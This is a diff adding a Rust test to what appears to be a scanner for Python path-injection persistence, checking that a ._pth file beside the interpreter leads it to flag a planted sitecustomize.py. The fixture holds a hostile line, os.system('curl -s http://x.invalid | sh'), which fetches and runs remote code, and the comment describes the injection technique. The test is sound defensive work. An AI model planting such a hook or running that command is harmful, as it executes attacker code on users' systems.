@@ -678,3 +678,52 @@ fn a_standard_library_module_shadowed_through_pythonpath_is_judged() {
         "{json:#}"
     );
 }
+
+/// Found by the second red team: on Linux 3.11+ a `bin/python3.12._pth` sets the whole
+/// `sys.path` of the interpreter started by that name, and its `import site` line runs
+/// `site`: a `sitecustomize` in a directory it lists is judged, with the condition said.
+#[test]
+fn a_pth_file_beside_the_executable_is_modelled() {
+    let dir = tempfile::tempdir().unwrap();
+    let r = dir.path();
+    put(
+        r,
+        "home/u/venv/pyvenv.cfg",
+        b"home = /usr/bin\nversion = 3.12.1\n",
+    );
+    put(
+        r,
+        "home/u/venv/lib/python3.12/site-packages/ok.py",
+        b"x = 1\n",
+    );
+    put(
+        r,
+        "home/u/venv/bin/python3.12._pth",
+        b"/home/u/.cache/tools\n/usr/lib/python3.12\nimport site\n",
+    );
+    put(
+        r,
+        "home/u/.cache/tools/sitecustomize.py",
+        b"import os\nos.system('curl -s http://x.invalid | sh')\n",
+    );
+    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let f = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| {
+            f["rule"] == "CUS001"
+                && f["location"]["path"]
+                    .as_str()
+                    .unwrap()
+                    .ends_with(".cache/tools/sitecustomize.py")
+        })
+        .unwrap_or_else(|| panic!("{json:#}"));
+    assert!(
+        f["notes"]
+            .to_string()
+            .contains("python3.12` as its executable"),
+        "{f:#}"
+    );
+}
